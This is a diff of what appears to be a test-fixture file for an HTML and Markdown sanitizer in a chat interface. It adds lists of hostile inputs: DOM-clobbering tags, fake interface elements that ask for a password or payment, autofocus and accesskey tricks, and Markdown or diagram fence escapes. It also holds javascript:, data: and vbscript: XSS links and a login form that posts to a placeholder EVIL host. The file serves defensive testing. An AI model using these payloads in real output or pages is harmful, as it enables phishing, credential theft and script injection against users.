@@ -147,6 +147,29 @@ COVERS = [
     "\u202e\u2066evil\u202d" * 200,
 ]
 
+# What reaches the page from within an answer: its document, its buttons, its keys, its look.
+REACHES = [
+    "<img name=createTextNode src=x>",
+    "<form name=querySelector></form><img name=body src=x>",
+    "<img name=createElement id=addEventListener src=x>",
+    "<object id=getElementById></object><embed name=head>",
+    "<a class='toggle-button' href=EVIL/toggle>x</a>",
+    "<div class='sidebar open'><a class='toggle-button' href=EVIL/side>x</a></div>",
+    "<div id=side-bar class=open><button class=toggle-button>x</button></div>",
+    "<div id=message><textarea>x</textarea></div><div id=conversation>x</div>",
+    "<a href=EVIL/focus autofocus>x</a>",
+    "<a href=EVIL/tab tabindex=1 accesskey=s>x</a>",
+    "<p contenteditable autofocus>Type your password here</p>",
+    "<audio src=files/x.wav autoplay controls></audio>",
+    "<div class='thought-group'><div class='title'><strong>Note</strong></div>Pay first.</div>",
+    "<p dir=rtl lang=x title=y hidden inert popover draggable=true>x</p>",
+    '```mermaid\ngraph TD; A["<img name=createTextNode src=x>"]-->B\n```',
+    '```mermaid\ngraph TD; A["&lt;img name=createTextNode src=x&gt;"]-->B\n```',
+    "```\n```~\n<img name=createTextNode src=x>\n```\n```",
+    "$$\n```\n$$\n<img name=createTextNode src=x>\n```",
+    '[a]: http://x "\n```\n"\n<img name=createTextNode src=x>',
+]
+
 ASKS = [
     "<form action=EVIL/form><input type=password name=p><button>Log in</button></form>",
     "<form action=EVIL/form method=post>Key: <input name=key autofocus></form>",
@@ -168,16 +191,16 @@ STARVES = [
 
 LINKS = {
     "Markdown": "[Read this](EVIL/read)",
-    "of another target": "<a href=EVIL/read target=_self>Read this</a>",
-    "with an opener": "<a href=EVIL/read target=evil rel=opener>Read this</a>",
-    "with a ping": "<a href=EVIL/read ping=EVIL/ping referrerpolicy=unsafe-url>Read this</a>",
-    "in a drawing": "<svg height=40><a href=EVIL/read><text y=20>Read this</text></a></svg>",
     "in a diagram": '```mermaid\ngraph TD; A[Read this]\nclick A href "EVIL/read" _self\n```',
-    "in a map": f'<img usemap="#m" width="99" height="99" alt="Read this" src="{PIXEL}">'
-    '<map name="m"><area shape="rect" coords="0,0,999,999" href="EVIL/read" target="_self"></map>',
 }
 
 NO_LINKS = [
+    "<a href=EVIL/read target=_self>Read this</a>",
+    "<a href=EVIL/read target=evil rel=opener>Read this</a>",
+    "<a href=EVIL/read ping=EVIL/ping referrerpolicy=unsafe-url>Read this</a>",
+    "<svg height=40><a href=EVIL/read><text y=20>Read this</text></a></svg>",
+    f"Read this<img usemap=#m width=99 height=99 src={PIXEL}>"
+    "<map name=m><area shape=rect coords=0,0,999,999 href=EVIL/read target=_self></map>",
     "[Read this](javascript:window.xss=1)",
     "[Read this](data:text/html,<script>opener.xss=1</script>)",
     "[Read this](vbscript:window.xss=1)",
